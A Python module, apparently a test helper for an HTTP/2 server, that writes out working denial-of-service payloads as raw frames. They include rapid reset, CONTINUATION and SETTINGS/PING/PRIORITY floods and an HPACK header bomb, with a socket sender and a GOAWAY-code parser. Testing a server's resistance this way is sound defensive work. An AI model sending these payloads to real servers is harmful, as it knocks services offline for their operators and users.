"""Attacks of HTTP/2 in bytes: each is a number of frames that no client needs, behind a preface."""

from __future__ import annotations

import select
import struct
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    import socket
    from collections.abc import Callable

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4
ENHANCE_YOUR_CALM = 0xB
CANCEL = struct.pack("!I", 8)
GET = bytes.fromhex("828684") + b"\x41\x01a"
POST = bytes.fromhex("838684") + b"\x41\x01a"

_PIECE = 16_384


def frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    return struct.pack("!IBI", len(payload) << 8 | kind, flags, stream) + payload


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS)
OPEN = frame(HEADERS, END_HEADERS, 1, POST)
"""A request whose content follows."""


def streams(count: int) -> range:
    return range(1, 2 * count, 2)


def _bomb() -> bytes:
    """Return a header that is long once, and then one byte each time (RFC 7541, 6.1)."""
    long = b"\x40\x01a\x7f" + bytes((4000 - 127 & 0x7F | 0x80, 4000 - 127 >> 7)) + b"b" * 4000
    return frame(HEADERS, END_STREAM | END_HEADERS, 1, GET + long + b"\xbe" * 10_000)


ATTACKS: dict[str, bytes] = {
    "rapid_reset": b"".join(
        frame(HEADERS, END_STREAM | END_HEADERS, each, GET) + frame(RST_STREAM, 0, each, CANCEL)
        for each in streams(3_000)
    ),
    "made_reset": b"".join(
        frame(HEADERS, END_HEADERS, each, POST) + frame(WINDOW_UPDATE, 0, each, bytes(4)) for each in streams(3_000)
    ),
    "continuation_flood": frame(HEADERS, 0, 1, GET) + frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 3_000) * 300,
    "header_bomb": _bomb(),
    "settings_flood": frame(SETTINGS, 0, 0, struct.pack("!HI", 4, 1)) * 10_000,
    "ping_flood": frame(PING, 0, 0, bytes(8)) * 50_000,
    "empty_frames_flood": OPEN + frame(DATA, 0, 1) * 50_000,
    "priority_flood": frame(PRIORITY, 0, 1, bytes((0, 0, 0, 3, 1))) * 50_000,
    "window_flood": OPEN + frame(WINDOW_UPDATE, 0, 1, struct.pack("!I", 1)) * 100_000,
    "stream_flood": b"".join(frame(HEADERS, END_HEADERS, each, POST) for each in streams(10_000)),
    "unknown_frames_flood": frame(0xBB) * 50_000,
}
"""Each by the name under which it is counted; several times as much as is allowed."""


def attack(sock: socket.socket, data: bytes, meanwhile: Callable[[], object]) -> bytes:
    """Send all, read all until the server closes, and return what it has sent.

    :param meanwhile: called at intervals.
    """
    data, received, at, reads = PREFACE + data, bytearray(), 0, 0
    while True:
        readable, writable, _ = select.select([sock], [sock] if at < len(data) else [], [])
        try:
            if readable:
                piece = sock.recv(65_536)
                if not piece:
                    return bytes(received)
                received += piece
            if writable:
                at += sock.send(data[at : at + _PIECE])
        except (ConnectionResetError, BrokenPipeError):
            return bytes(received)
        if reads % 8 == 0:
            meanwhile()
        reads += 1


def goaways(data: bytes) -> list[int]:
    """Return the codes of the GOAWAY frames among whole frames."""
    found, at = [], 0
    while at + 9 <= len(data):
        size, kind = int.from_bytes(data[at : at + 3]), data[at + 3]
        if kind == GOAWAY:
            found.append(int.from_bytes(data[at + 13 : at + 17]))
        at += 9 + size
    return found
